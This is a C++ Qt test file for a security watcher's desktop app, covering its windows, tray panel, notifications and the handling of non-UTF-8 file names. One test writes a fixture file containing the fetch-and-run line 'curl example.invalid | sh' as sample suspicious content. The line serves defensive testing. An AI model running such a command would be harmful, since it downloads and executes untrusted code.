// The application's top over a real store and the stand-in watcher: start-up, the windows, clearing
// and notification clicks; and the tray side headless: the popup's place, the panel as an ordinary
// window without a status area (as under offscreen), the popup getting out of the way.

#include "AppFixture.h"

#include "directories/DirectoryView.h"
#include "panel/FindingRow.h"
#include "panel/FindingsView.h"
#include "shell/AppDelegate.h"
#include "shell/TrayController.h"
#include "viewer/FileViewerView.h"
#include "watcher/Intake.h"
#include "watcher/WatchEvent.h"

#include <QApplication>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QToolButton>

#include <fcntl.h>
#include <unistd.h>

using namespace Qt::StringLiterals;

class AppDelegateTest : public QObject
{
    Q_OBJECT
private slots:
    void init()
    {
        QApplication::setQuitOnLastWindowClosed(false);
        m_app = std::make_unique<ScriptedAppFixture>();
    }

    void cleanup()
    {
        m_delegate.reset();
        m_app.reset();
    }

    // The directories window opens on an empty store only. It came first, while no watcher ran, so its
    // first push went nowhere; the launch then sent the stored configuration once: a second push would
    // stand before a push of our own, with no waiting for something not to happen.
    void launchOpensDirectoriesOnlyOnAnEmptyStoreAndSendsTheConfigurationOnce_data()
    {
        QTest::addColumn<QStringList>("stored");
        QTest::addColumn<QByteArray>("sent");
        QTest::newRow("empty store") << QStringList{} << QByteArray("\n\n");
        QTest::newRow("with a directory") << QStringList{u"/srv/project"_s} << QByteArray("/srv/project\n\n");
    }

    void launchOpensDirectoriesOnlyOnAnEmptyStoreAndSendsTheConfigurationOnce()
    {
        QFETCH(QStringList, stored);
        QFETCH(QByteArray, sent);
        m_app->addDirectories(stored);
        AppDelegate& delegate = makeDelegate();
        delegate.applicationDidFinishLaunching();

        QCOMPARE(qobject_cast<DirectoryView*>(delegate.directoryWindow()) != nullptr, stored.isEmpty());
        QTRY_VERIFY(WatcherStatus::shared().isRunning());
        QTRY_COMPARE(m_app->script.recordedStdin(), sent);
        WatcherStatus::shared().sendDirectories({u"/marker"_s});
        QTRY_COMPARE(m_app->script.recordedStdin(), sent + "/marker\n\n");
    }

    // One directories window, one viewer per finding; closing hides them, opening shows the same again,
    // clearing the findings leaves them. A notification click opens its finding (which one: the store's
    // lookup, its own test), or, for the summary, the panel.
    void windowsAreOneEachShownAgainAndOutliveClearing()
    {
        const Finding finding =
            m_app->addFinding(u"/srv/repo/.git/hooks/pre-commit"_s, u"hook"_s, u"critical"_s);
        AppDelegate& delegate = makeDelegate();
        delegate.applicationDidFinishLaunching();
        QSignalSpy panel(&delegate, &AppDelegate::showPanelRequested);
        delegate.openDirectoryWindow();
        QWidget* const directories = delegate.directoryWindow();
        QVERIFY(directories && directories->close());
        delegate.openDirectoryWindow();
        QCOMPARE(delegate.directoryWindow(), directories);
        QVERIFY(directories->isVisible());

        m_app->notifier.click(finding.path(), u"hook"_s);
        auto* viewer = qobject_cast<FileViewerView*>(delegate.fileViewerWindow(finding.id()));
        QVERIFY(viewer && viewer->isVisible());
        QCOMPARE(viewer->path(), finding.path());
        QVERIFY(viewer->close());
        delegate.openFileViewer(finding);
        QCOMPARE(delegate.fileViewerWindowCount(), 1);
        QCOMPARE(delegate.fileViewerWindow(finding.id()), viewer);
        QVERIFY(viewer->isVisible());

        // Another finding of the same file is a window of its own.
        const Finding again = m_app->addFinding(finding.path(), finding.ruleName(), u"critical"_s);
        delegate.openFileViewer(again);
        QCOMPARE(delegate.fileViewerWindowCount(), 2);
        QWidget* other = delegate.fileViewerWindow(again.id());
        QVERIFY(other && other != viewer);

        // Clearing empties the store, warnings too, and leaves the windows open.
        m_app->addFinding(u"/p/b"_s, u"r"_s, u"warning"_s);
        delegate.clearFindings();
        QCOMPARE(m_app->storedFindingCount(), 0);
        QCOMPARE(delegate.fileViewerWindowCount(), 2);
        QVERIFY(viewer->isVisible());

        m_app->notifier.click(u"/srv/repo/other"_s, u"hook"_s);
        QCOMPARE(panel.size(), 0);
        m_app->notifier.click(QString(), QString());
        QCOMPARE(panel.size(), 1);
        QCOMPARE(delegate.fileViewerWindowCount(), 2);
    }

    void aNameThatIsNotUtf8OpensThatFileNotItsLookalike();

    // Under the icon at the top (EndToEndTest), above it at the bottom, always on the screen.
    void popupPosition()
    {
        const QRect screen(0, 0, 1280, 800);
        QCOMPARE(TrayController::popupPosition(QRect(0, 776, 24, 24), TrayController::PanelSize, screen),
                 QPoint(0, 416));
        QCOMPARE(TrayController::popupPosition(QRect(2000, -50, 24, 24), TrayController::PanelSize, screen),
                 QPoint(860, 0));
    }

    // Without a status area (as under the offscreen platform) the panel opens as an ordinary window, so the
    // application is never invisible, and it stays when it opens a window; as a popup it gets out of the way
    // of the windows it opens, as a menu does.
    void panelIsAWindowWithoutStatusAreaAndAPopupOtherwise()
    {
        QVERIFY(!QSystemTrayIcon::isSystemTrayAvailable());
        const Finding finding = m_app->addFinding(u"/p/.vscode/tasks.json"_s, u"task"_s, u"high"_s);
        AppDelegate& delegate = makeDelegate();
        TrayController tray(m_app->container.get());
        delegate.servePanel(tray.findingsView());
        QWidget* const panel = tray.panel();
        tray.start();
        QTRY_VERIFY(panel->isVisible());
        QVERIFY(!tray.isPanelPopup());
        QTRY_COMPARE(tray.findingsView()->rows().size(), 1);
        QTest::mouseClick(tray.findingsView()->folderButton(), Qt::LeftButton);
        QVERIFY(delegate.directoryWindow());
        QVERIFY(panel->isVisible());

        // Closing it only hides it; a click on the icon shows the same one, a middle click does not.
        QVERIFY(panel->close());
        emit tray.trayIcon()->activated(QSystemTrayIcon::MiddleClick);
        QVERIFY(!panel->isVisible());
        emit tray.trayIcon()->activated(QSystemTrayIcon::Trigger);
        QCOMPARE(tray.panel(), panel);
        QVERIFY(panel->isVisible());

        tray.showAsPopup();
        QVERIFY(tray.isPanelPopup() && panel->isVisible());
        QTest::mouseClick(tray.findingsView()->rows().first(), Qt::LeftButton);
        QVERIFY(delegate.fileViewerWindow(finding.id()));
        QVERIFY(!panel->isVisible());
        tray.showAsPopup();
        QTest::mouseClick(tray.findingsView()->folderButton(), Qt::LeftButton);
        QVERIFY(!panel->isVisible());
    }

private:
    AppDelegate& makeDelegate()
    {
        m_delegate = std::make_unique<AppDelegate>(m_app->supervisor.get(), &m_app->notifier);
        return *m_delegate;
    }

    std::unique_ptr<ScriptedAppFixture> m_app;
    std::unique_ptr<AppDelegate> m_delegate;
};

// The watcher names "caf\xE9" (Latin-1) as "caf\uFFFD" plus its exact bytes; a benign file really
// named "caf\uFFFD" sits beside it. The finding is stored and opened under the exact name.
// Defined outside the class: moc cannot read raw string literals inside a class body.
void AppDelegateTest::aNameThatIsNotUtf8OpensThatFileNotItsLookalike()
{
    QTemporaryDir dir;
    const QByteArray folder = QFile::encodeName(dir.path());
    const auto plant = [](const QByteArray& name, const QByteArray& text) {
        const int fd = ::open(name.constData(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
        const bool written = fd >= 0 && ::write(fd, text.constData(), size_t(text.size())) == text.size();
        return ::close(fd) == 0 && written;
    };
    QVERIFY(plant(folder + "/caf\xE9", "curl example.invalid | sh\n"));
    QVERIFY(plant(folder + "/caf\xEF\xBF\xBD", "benign\n"));
    const QByteArray line = R"({"path":")" + folder + R"(/caf\uFFFD","types":["created"],"rule":"r",)" +
                            R"("severity":"critical","pathBytes":")" + (folder + "/caf\xE9").toBase64() +
                            R"("})";
    const std::optional<WatchEvent> event = decodeWatchEvent(line);
    QVERIFY(event);
    Intake(&m_app->notifier).ingest({*event});
    const QList<Finding> stored =
        m_app->container->newContext()->fetchNewestFindings(1).value_or(QList<Finding>{});
    QCOMPARE(stored.size(), 1);

    AppDelegate& delegate = makeDelegate();
    delegate.openFileViewer(stored.first());
    auto* viewer = qobject_cast<FileViewerView*>(delegate.fileViewerWindow(stored.first().id()));
    QVERIFY(viewer);
    QVERIFY(QTest::qWaitFor([&] { return !viewer->isLoading(); }, 20000));
    QCOMPARE(viewer->content(), u"curl example.invalid | sh\n"_s);
}

QTEST_MAIN(AppDelegateTest)
#include "AppDelegateTest.moc"
